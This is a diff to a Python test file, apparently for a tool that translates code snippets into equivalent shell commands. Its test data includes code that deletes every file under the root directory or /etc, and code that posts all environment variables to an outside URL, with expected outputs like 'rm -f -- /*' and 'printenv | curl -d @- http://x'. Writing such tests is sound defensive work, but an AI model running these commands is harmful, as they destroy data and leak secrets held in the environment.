@@ -166,7 +166,7 @@ def test_overwriting_a_file_is_told(language: str, code: str) -> None:
 
 def test_every_file_of_a_pattern_is_meant_by_a_loop() -> None:
     loop = 'import glob, os\nfor f in glob.glob("/*"):\n    os.remove(f)'
-    assert of("python", loop).scripts == (f"rm -f -- /{STAR}",)
+    assert of("python", loop).scripts == (f"rm -f -- /{STAR}", f"xargs rm -f -- /{STAR}")
     assert of("python", 'import os; [os.remove(f) for f in os.listdir("/etc")]').scripts == (
         f"rm -f -- /etc/{STAR}",
     )
@@ -568,7 +568,7 @@ def test_a_function_that_is_given_away_is_called(code: str) -> None:
 
 def test_the_environment_that_is_sent_is_told_as_such() -> None:
     code = 'import os, requests; requests.post("http://x", json=dict(os.environ))'
-    assert of("python", code).scripts == (f"printenv | curl -d @- {GAP}",)
+    assert of("python", code).scripts == ("printenv | curl -d @- http://x",)
 
 
 @pytest.mark.parametrize(
